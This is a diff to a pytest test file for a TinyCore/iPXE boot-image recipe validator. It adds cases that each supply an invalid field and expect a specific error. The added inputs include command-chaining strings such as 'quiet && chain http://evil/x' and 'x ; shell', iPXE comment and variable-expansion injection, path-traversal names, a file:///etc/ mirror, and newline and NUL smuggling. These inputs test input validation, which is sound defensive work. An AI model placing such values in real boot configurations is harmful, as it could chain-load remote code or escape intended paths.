@@ -388,6 +388,27 @@ def test_a_recipe_made_in_code_obeys_the_same_rules() -> None:
         ({"serial": "0\n115200"}, "boot.serial: a newline (U+000A) at character 2; "),
         ({"initrd_name": "vmlinuz64"}, "boot.initrd_name: 'vmlinuz64' is the kernel's name"),
         ({"initrd_name": "../x"}, "boot.initrd_name: '../x' is not a plain file name"),
+        ({"append": "quiet && chain http://evil/x"}, "boot.append: '&&' would chain a command"),
+        ({"labels": {"debug": "x ; shell"}}, "boot.labels.debug: ';' would chain a command"),
+        ({"append": "quiet #x"}, "boot.append: '#x' would start a comment in an iPXE script"),
+        ({"append": "root=${ip}"}, "boot.append: '${' would be expanded by iPXE"),
+        ({"release": "15.x/../../evil"}, "tinycore.release: '15.x/../../evil' is not a "),
+        ({"mirrors": ("file:///etc/",)}, "tinycore.mirrors[0]: 'file:///etc/' is not an http"),
+        ({"mirrors": ("http://x/\n",)}, "tinycore.mirrors[0]: 'http://x/\n' is not an http"),
+        ({"install": ("../../evil.tcz",)}, "extensions.install[0]: '../../evil.tcz' is not an "
+                                           "extension name"),
+        ({"flavor": "corepure64"}, "tinycore.flavor: 'corepure64' is not one of: core | "),
+        ({"vars": {"a-b": 1}}, "vars.a-b: not a valid variable name"),
+        ({"vars": {"a": "x\0"}}, "vars.a: NUL (U+0000) at character 2; template values may "),
+        ({"serial": "0 115200 x"}, "boot.serial: '0 115200 x' is not a pxelinux SERIAL line"),
+        ({"timeout": -1}, "boot.timeout: -1 is not a time in tenths of a second"),
+        ({"remove": ("../etc",)}, "image.remove[0]: '../etc' is not a path or glob inside"),
+        ({"files": {"opt/x": FileAttributes(mode=0o17777)}},
+         'files."/opt/x".mode: 8191 is not a mode'),
+        ({"files": {"opt/x": FileAttributes(owner="r;oot")}},
+         "files.\"/opt/x\".owner: 'r;oot' is not a user or group name or number"),
+        ({"overlays": (tcbuild.config.recipe.Overlay(Path("o\nx")),)},
+         "overlay[0].source: a newline (U+000A) at character 2; "),
     ]:
         with pytest.raises(RecipeError) as info:
             dataclasses.replace(recipe, **change)  # type: ignore[arg-type]
